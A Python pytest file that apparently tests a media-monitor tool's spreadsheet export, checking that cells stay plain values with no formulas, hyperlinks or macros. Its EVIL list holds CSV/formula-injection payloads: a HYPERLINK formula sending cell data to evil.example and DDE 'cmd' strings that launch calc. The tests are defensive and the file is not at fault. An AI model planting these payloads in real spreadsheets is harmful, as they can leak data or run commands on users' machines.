"""``monitor hits --xlsx``: a sheet in which nothing of strangers runs."""

import sys
import xml.etree.ElementTree as ET
import zipfile
from collections.abc import Mapping
from dataclasses import replace
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

from monitor.cli import sheet
from monitor.cli.sheet import write_xlsx
from monitor.errors import MonitorError
from tests.support.stored import HOUR, NOW, entry, hit, open_store, store_entries
from tests.unit.cli.conftest import Run

SPACE = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
EVIL = [
    '=HYPERLINK("https://evil.example?x="&A1,"Read")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{=1+1}",
    "https://evil.example/",
    "0042",
    "\t=1",
]


def cells(file: Path) -> Mapping[str, tuple[str, str]]:
    """Of each cell of a sheet its type and value; none may be anything but a value."""
    with zipfile.ZipFile(file) as parts:
        names = parts.namelist()
        root = ET.fromstring(parts.read("xl/worksheets/sheet1.xml"))  # noqa: S314  # ours
        texts = (
            [
                "".join(each.itertext())
                for each in ET.fromstring(parts.read("xl/sharedStrings.xml"))  # noqa: S314
            ]
            if "xl/sharedStrings.xml" in names
            else []
        )
    assert not any("external" in name or "vba" in name.lower() for name in names)
    assert not [each for each in root.iter() if each.tag in {f"{SPACE}f", f"{SPACE}hyperlink"}]
    found = {}
    for cell in root.iter(f"{SPACE}c"):
        kind, value = cell.get("t", "n"), "".join(cell.itertext())
        text = texts[int(value)] if kind == "s" else value
        found[cell.get("r", "")] = ("text" if kind in {"s", "inlineStr"} else kind, text)
    return found


def test_hits_are_a_sheet_with_dates_and_numbers(
    desk: Path, run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(desk)
    with open_store(desk).write() as connection:
        store_entries(connection, [replace(entry(1), title=EVIL[0]), entry(2)])
        for article in (1, 2):
            hit(connection, article, now=NOW + article * HOUR)
    result = run("hits", "--xlsx", "hits.xlsx")
    assert (result.exit_code, result.stdout, result.stderr) == (0, "", "hits.xlsx: 2 hits\n")
    found = cells(desk / "hits.xlsx")
    heading = [found[f"{column}1"][1] for column in "ABCDEFGHI"]
    assert heading == [
        "id", "seen (UTC)", "rule", "severity", "score", "title", "url", "source", "why",
    ]  # fmt: skip
    titles = {found["F2"], found["F3"]}
    assert ("text", EVIL[0]) in titles
    assert found["E2"] == ("n", "1")
    kind, days = found["B2"]
    newest = datetime(1899, 12, 30) + timedelta(days=float(days))  # noqa: DTZ001 - Excel's own
    assert (kind, newest.replace(microsecond=0)) == ("n", (NOW + 2 * HOUR).replace(tzinfo=None))


def test_no_hits_are_an_empty_sheet(desk: Path, run: Run) -> None:
    open_store(desk)
    assert run("hits", "--xlsx", str(desk / "none.xlsx")).exit_code == 0
    assert cells(desk / "none.xlsx").keys() == {f"{column}1" for column in "ABCDEFGHI"}


@pytest.mark.parametrize("text", EVIL)
def test_a_text_is_a_text_whatever_it_begins_with(tmp_path: Path, text: str) -> None:
    file = tmp_path / "a.xlsx"
    write_xlsx(file, [("title", 20)], [[text]])
    assert cells(file)["A2"] == ("text", text.replace("\t", " "))


def test_long_texts_and_times_of_other_zones_fit(tmp_path: Path) -> None:
    file = tmp_path / "a.xlsx"
    moment = datetime(2026, 1, 1, 1, 0, tzinfo=timezone(2 * HOUR))
    write_xlsx(file, [("a", 9), ("b", 9), ("c", 9)], [["x" * 40_000, moment, None]])
    found = cells(file)
    assert len(found["A2"][1]) == 32_767
    assert float(found["B2"][1]) == pytest.approx(46022 + 23 / 24)
    assert "C2" not in found


def test_an_older_file_is_replaced_in_one_step(tmp_path: Path) -> None:
    file = tmp_path / "a.xlsx"
    file.write_text("old", encoding="utf-8")
    with file.open(encoding="utf-8") as reader:
        write_xlsx(file, [("a", 9)], [])
        assert reader.read() == "old"
    assert list(tmp_path.iterdir()) == [file]


def test_what_can_t_be_written_is_told(
    desk: Path, run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    open_store(desk)
    for name, problem in (
        ("hits.csv", "tables are .xlsx files"),
        (str(desk / "nowhere" / "hits.xlsx"), "can't be written: No such file"),
    ):
        assert problem in str(run("hits", "--xlsx", name).exception)
    monkeypatch.setattr(sheet, "ROWS", 0)
    with pytest.raises(MonitorError, match="room for 0 rows"):
        write_xlsx(desk / "a.xlsx", [("a", 9)], [[1]])
    monkeypatch.setitem(sys.modules, "xlsxwriter", None)
    assert "media-monitor[xlsx]" in str(run("hits", "--xlsx", "hits.xlsx").exception)
